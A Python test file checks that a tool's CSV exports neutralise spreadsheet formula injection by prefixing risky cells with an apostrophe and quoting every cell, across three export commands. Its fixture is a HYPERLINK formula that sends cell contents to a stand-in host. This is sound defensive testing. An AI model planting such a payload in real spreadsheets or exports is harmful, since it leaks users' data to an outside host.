"""CSV exports keep formulas inert (agent/csvsafe.py): a cell a device or another hub chose, such as an
entry id ``=HYPERLINK(...)`` or a host ``-2-3.example``, reaches the spreadsheet as text, in all three
CSV exports (`gatewatch-hub hotline export`, `gatewatch-hub reports export`, `gatewatch reports export`);
the JSON exports keep the exact values."""
from __future__ import annotations

import csv
import io
import json

import pytest

from agent.core.report import make_report
from agent.csvsafe import FORMULA_START, csv_text, safe_cell

ENTRY = '=HYPERLINK("http://x.invalid/?leak="&A1,"open")'   # a printable entry id: the schema lets it through
HOST = "-2-3.example"                                         # a host name may start with '-'


@pytest.mark.parametrize("start", FORMULA_START)
def test_text_that_starts_like_a_formula_gets_an_apostrophe(start):
    assert safe_cell(start + "1+1") == "'" + start + "1+1"


@pytest.mark.parametrize("value, cell", [(None, ""), (0, "0"), (-3, "-3"), (2.5, "2.5"), ("http://a.test/x", "http://a.test/x"),
                                         ("'=already", "'=already"), (" =1", " =1"), ("", ""), ("a=1", "a=1")])
def test_other_cells_are_left_as_they_are(value, cell):
    assert safe_cell(value) == cell   # numbers stay numbers; a formula sign inside a cell is harmless


def test_every_cell_is_quoted_so_a_semicolon_locale_cannot_split_one():
    text = csv_text(("a", "b"), [["x;=1+1", 7], [None, "\t=cmd"]])
    assert text.splitlines()[:2] == ['"a","b"', '"x;=1+1","7"']
    assert list(csv.reader(io.StringIO(text))) == [["a", "b"], ["x;=1+1", "7"], ["", "'\t=cmd"]]


def _report(**kw):
    return make_report("hl1", "known", 1, "sha256", 0, ENTRY, hosting={"host": HOST}, now=1_800_000_000,
                       device_secret=b"s", region=None, agent_version="0.1.0", **kw)


def _assert_inert(text, columns=("entry", "hosting_host")):
    rows = list(csv.DictReader(io.StringIO(text)))
    assert len(rows) == 1
    for c in columns:
        assert rows[0][c][:1] == "'" and rows[0][c][1:] in (ENTRY, HOST), (c, rows[0][c])


def test_hub_reports_export(tmp_path):
    from tools.collector import ReportStore, export
    store = ReportStore(tmp_path / "r.db")
    try:
        store.add(_report())
        _assert_inert(export(store, "hl1", "csv"))
        got = json.loads(export(store, "hl1", "json"))[0]
        assert (got["entry"], got["hosting"]["host"]) == (ENTRY, HOST)
    finally:
        store.close()


def test_device_reports_export():
    from agent.cli.reports import render
    _assert_inert(render([("unsent", _report())], "csv"))
    assert json.loads(render([("unsent", _report())], "json"))[0]["entry"] == ENTRY


def test_hotline_export(tmp_path):
    from tests.hub.hotline.hubs import TestHub
    from tests.hub.hotline.kit import Network
    from tools.hotline.export import export
    net = Network(tmp_path / "net", {"hl1": ["NL"]})
    h = TestHub(net, "hl1", str(tmp_path / "a.sqlite"), sources=["hl1"])
    try:
        assert h.hub.ingest_report(_report())
        _assert_inert(export(h.store, "hl1", "csv"), columns=("entry", "host"))
        assert json.loads(export(h.store, "hl1", "json"))[0]["entry"] == ENTRY
    finally:
        h.close()
